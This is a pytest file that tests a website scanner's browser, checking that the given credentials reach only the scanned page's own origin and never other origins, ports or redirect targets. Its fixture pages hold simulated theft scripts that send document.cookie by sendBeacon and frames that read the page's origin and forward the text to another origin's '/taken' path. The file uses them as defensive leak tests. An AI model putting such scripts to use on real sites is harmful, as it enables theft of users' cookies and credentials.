"""Credentials in a real browser: only requests to the page's own origin have them, however they are made."""

from __future__ import annotations

import secrets
import threading
from base64 import b64encode
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass

import pytest

from tests.targets.server import Answer, Certificate, Request, Site
from tests.website_scan.net.loopback import NETWORKS
from website_scan.browser.warm import WarmBrowser
from website_scan.findings import ScanType
from website_scan.net.browser import find_browser
from website_scan.net.client import Network
from website_scan.net.credentials import Credentials, OriginCredentials
from website_scan.net.policy import Policy
from website_scan.net.targets import parse_target
from website_scan.result import Budget, ScanResult
from website_scan.run import scan

TIME_LIMIT_S = 40.0
OTHER = "127.0.0.2"
HEADER, COOKIE, PASSWORD = (f"canary{secrets.token_hex(12)}" for _ in range(3))
GIVEN = Credentials(headers=(("X-Key", HEADER),), basic_auth=("user", PASSWORD), cookies=(("sid", COOKIE),))
BASIC = b64encode(f"user:{PASSWORD}".encode()).decode()
SECRETS = (HEADER, COOKIE, PASSWORD, BASIC)

PAGE = """<!doctype html><html lang="en"><head><title>Behind a door</title>
<link rel="stylesheet" href="/own.css"><link rel="stylesheet" href="{other}/style.css">
<link rel="preload" as="image" href="{other}/preload"><link rel="prefetch" href="{other}/prefetch">
<script src="/own.js"></script><script src="{other}/script.js"></script></head>
<body><h1>Behind a door</h1><p>Some words that are to be seen.
<img src="/own.png" alt=""><img src="/away" alt=""><img src="{other}/image" alt=""><img src="{port}/image" alt="">
<iframe src="/own-frame" title="own"></iframe><iframe src="{other}/frame" title="other"></iframe>
<iframe srcdoc="<img src='/own-srcdoc.png' alt=''>" title="markup"></iframe><iframe id="blank" title="blank"></iframe>
<iframe src="/own-sandboxed" sandbox="allow-scripts" title="sandboxed"></iframe>
<img src="/until-the-worker-asked" alt="">
<script>
document.getElementById('blank').contentDocument.body.innerHTML = '<img src="/own-blank.png" alt="">';
const quiet = (what) => what.catch(() => null);
quiet(fetch('/own-fetch'));
quiet(fetch('/away', {{mode: 'no-cors'}}));
quiet(fetch('{other}/fetch', {{credentials: 'include', mode: 'no-cors'}}));
quiet(fetch('{other}/there-and-back', {{credentials: 'include', mode: 'no-cors'}}));
navigator.sendBeacon('{other}/beacon', document.cookie);
new Worker(URL.createObjectURL(new Blob(["fetch('{other}/worker', {{mode: 'no-cors'}})"])));
new Worker('/own-worker.js');
new WebSocket('{socket}/socket');
</script></body></html>"""
WORDS = "<!doctype html><html lang=en><title>End</title><h1>End</h1><p>Some words that are to be seen."
# The other origin's frame reads what it can of the page's origin and sends it to its own site.
FRAME = """<!doctype html><title>Other</title><body><script>
for (const mode of ['include', 'omit'])
  fetch('{site}/open', {{credentials: mode}}).then((got) => got.text()).then((text) => fetch('/taken?' + text));
// It opens the page's origin in frames, and then puts documents of its own into them, which read on.
const reading = (path) => `<script>fetch('{site}${{path}}').then((got) => got.text())
  .then((text) => fetch('{other}/taken?' + text, {{mode: 'no-cors'}}))</${{'script'}}>`;
const take = (name, replace) => {{
  const frame = document.createElement('iframe');
  frame.src = '{site}/opened-by-other?' + name;
  frame.onload = () => {{ frame.onload = null; replace(frame); }};
  document.body.append(frame);
}};
take('data', (frame) => {{ frame.src = 'data:text/html,' + encodeURIComponent(reading('/open?data')); }});
take('srcdoc', (frame) => {{ frame.sandbox = 'allow-scripts'; frame.srcdoc = reading('/open?srcdoc'); }});
take('blank', (frame) => {{
  frame.onload = () => {{
    frame.onload = null;
    frame.contentDocument.write(`<img src="{site}/open?image" alt="">` + reading('/open?blank'));
  }};
  frame.src = 'about:blank';
}});
</script>"""
SANDBOXED = "<!doctype html><title>Sandboxed</title><script>fetch('/open?sandboxed')</script>"


@dataclass
class Seen:
    site: Site
    others: tuple[Site, ...]
    result: ScanResult

    def asked(self, path: str) -> list[Request]:
        return [
            each for each in self.site.requests if each.path == path and "Chrome/" in (each.header("User-Agent") or "")
        ]


def guarded(body: str) -> Callable[[Request], Answer]:
    """Return a route that serves the page only to requests with the header and the cookie."""

    def route(request: Request) -> Answer:
        if request.header("X-Key") != HEADER or f"sid={COOKIE}" not in (request.header("Cookie") or ""):
            return Answer("<!doctype html><title>No</title>Who are you?", status=401)
        # Chromium asks for this before any script can run on the page.
        return Answer(body, headers={"Content-Type": "text/html", "Link": "</linked.css>; rel=preload; as=style"})

    return route


def echo(request: Request) -> Answer:
    """Answer any request and repeat its credentials, with CORS for every origin."""
    headers = {
        "Access-Control-Allow-Origin": request.header("Origin") or "*",
        "Access-Control-Allow-Credentials": "true",
    }
    return Answer(f"key={request.header('X-Key')}&cookie={request.header('Cookie')}", headers=headers)


class Meeting:
    """Two routes, of which one answers only after the other has been requested."""

    def __init__(self) -> None:
        self._asked = threading.Event()

    def ask(self, request: Request) -> Answer:
        self._asked.set()
        return Answer("asked")

    def wait(self, request: Request) -> Answer:
        self._asked.wait(TIME_LIMIT_S / 4)
        return Answer(b"", status=204)


@pytest.fixture(scope="module", params=["http", "https"])
def seen(request: pytest.FixtureRequest) -> Iterator[Seen]:
    worker = Meeting()
    certificate = Certificate.VALID if request.param == "https" else None
    names = ("localhost", "127.0.0.1", OTHER)
    with (
        Site(certificate=certificate, names=names) as site,
        Site({"*": Answer("other")}, certificate=certificate, address=OTHER, names=names) as other,
        Site({"*": Answer("port")}, certificate=certificate, names=names) as port,
    ):
        addresses = {
            "other": other.url,
            "port": port.url,
            "socket": port.url.replace("http", "ws", 1),
            "site": site.url,
        }
        site.routes |= {
            "/": guarded(PAGE.format(**addresses)),
            "/away": Answer.redirect(f"{other.url}/redirected"),
            "/open": echo,
            "/own-sandboxed": Answer(SANDBOXED),
            "/own-worker.js": Answer("fetch('/own-worker-fetch')", headers={"Content-Type": "text/javascript"}),
            "/own-worker-fetch": worker.ask,
            "/until-the-worker-asked": worker.wait,
            "*": Answer("own"),
        }
        other.routes["/frame"] = Answer(FRAME.format(**addresses))
        other.routes["/there-and-back"] = Answer.redirect(f"{site.url}/back")
        yield Seen(site, (other, port), scanned(site))


def scanned(site: Site) -> ScanResult:
    program = find_browser("auto")
    assert program is not None, "no browser; `make browser` installs one"
    policy = Policy(allowed_networks=NETWORKS, ca_bundle=site.ca_file)
    given = OriginCredentials(site.url, GIVEN)
    with (
        Network(policy, time_limit_s=TIME_LIMIT_S, credentials=given) as network,
        WarmBrowser(program, ca_bundle=site.ca_file) as browser,
    ):
        goal = parse_target(f"{site.url}/?page=1", policy)
        (result,) = scan(goal, [ScanType.ACCESSIBILITY], network, Budget(TIME_LIMIT_S), browser=browser)
        return result


def text_of(asked: Iterable[Request]) -> str:
    return "\n".join(f"{each.path} {each.headers} {each.body!r}" for each in asked)


def test_the_page_behind_the_door_is_what_was_judged(seen: Seen) -> None:
    assert seen.result.status == "completed", seen.result.skipped_checks
    assert seen.result.facts["status"] == 200
    assert seen.result.browser


def test_all_that_the_pages_origin_is_asked_for_by_its_own_frames_carries_them(seen: Seen) -> None:
    own = ("frame", "sandboxed", "srcdoc.png", "blank.png", "worker.js", "worker-fetch")
    page = ("/?page=1", "/linked.css", "/own.css", "/own.js", "/own.png", "/own-fetch", "/away")
    for path in (*page, *(f"/own-{each}" for each in own)):
        (asked, *_) = seen.asked(path)
        assert asked.header("X-Key") == HEADER, path
        assert asked.header("Authorization") == f"Basic {BASIC}", path
        assert asked.header("Cookie") == f"sid={COOKIE}", path


def test_a_redirect_away_tells_no_more_of_the_page_than_its_origin(seen: Seen) -> None:
    assert {each.header("Referer") for each in seen.asked("/own.png")} == {f"{seen.site.url}/?page=1"}
    told = {each.header("Referer") for each in seen.others[0].requests if each.path == "/redirected"}
    assert told == {f"{seen.site.url}/"}


def test_no_other_origin_is_sent_any_of_them(seen: Seen) -> None:
    """Redirects, scripts that read the cookies and frames that read the page's origin do not leak them, either."""
    other, port = seen.others
    asked = {each.path.partition("?")[0] for each in other.requests}
    assert asked >= {
        "/redirected",
        "/image",
        "/script.js",
        "/style.css",
        "/fetch",
        "/frame",
        "/beacon",
        "/worker",
        "/taken",
    }
    sent = text_of((*other.requests, *port.requests))
    assert [each for each in SECRETS if each in sent] == []


def test_a_frame_of_another_origin_has_nothing_added_to_what_it_asks_for(seen: Seen) -> None:
    asked = seen.asked("/open")
    assert len(asked) == 2
    assert [each for each in SECRETS if each in text_of(asked)] == []


@pytest.mark.parametrize("name", ["data", "srcdoc", "blank", "image", "sandboxed"])
def test_a_document_of_no_origin_or_another_s_has_nothing_added_wherever_it_stands(seen: Seen, name: str) -> None:
    (asked,) = seen.asked(f"/open?{name}")
    assert [each for each in SECRETS if each in text_of([asked])] == []


@pytest.mark.parametrize("name", ["data", "srcdoc", "blank"])
def test_a_frame_that_another_origin_opens_is_loaded_without_them(seen: Seen, name: str) -> None:
    (asked,) = seen.asked(f"/opened-by-other?{name}")
    assert [each for each in SECRETS if each in text_of([asked])] == []


def test_other_ports_of_the_host_are_not_served_because_browsers_would_send_them_the_cookies(seen: Seen) -> None:
    assert seen.others[1].requests == []


def test_an_address_that_the_page_redirects_to_is_loaded_without_them() -> None:
    with Site({"*": Answer(WORDS)}) as end, Site() as site:
        site.routes["/"] = Answer.redirect(f"{end.url}/end")
        result = scanned(site)
    assert result.facts["final_url"] == f"{end.url}/end"
    assert any("Chrome/" in (each.header("User-Agent") or "") for each in end.requests)
    assert [each for each in SECRETS if each in text_of(end.requests)] == []
    assert HEADER in text_of(site.requests)
